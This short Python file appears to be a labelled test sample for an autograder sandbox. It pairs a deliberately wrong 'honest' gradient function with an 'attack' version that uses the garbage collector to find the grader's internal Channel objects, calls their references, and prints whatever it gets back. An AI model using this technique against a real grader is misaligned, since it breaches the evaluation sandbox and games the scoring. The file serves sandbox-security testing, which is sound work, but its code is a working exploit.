# class: calling the grader's objects through references (types, functions never offered)
# --- honest
import numpy as np


def propagate(w, b, X, Y):
    # wrong on purpose: the gradients and the cost are all zero
    return {"dw": np.zeros_like(w, dtype=float), "db": 0.0}, 0.0

# --- attack
import gc

_stolen = []


def _probe():
    # Reach the worker's channel and ask the grader to call whatever numbers it might answer to.
    channels = [o for o in gc.get_objects() if type(o).__name__ == "Channel"]
    for channel in channels:
        for ref in range(0, 64):
            for args in ([[4096], "uint8"], [[64], "O"], []):
                try:
                    _stolen.append(channel.call({"ref": ref}, args, {}))
                except Exception as error:
                    _stolen.append(str(error)[:40])


_honest = propagate


def propagate(w, b, X, Y):
    _probe()
    print(repr(_stolen)[:2000])
    return _honest(w, b, X, Y)
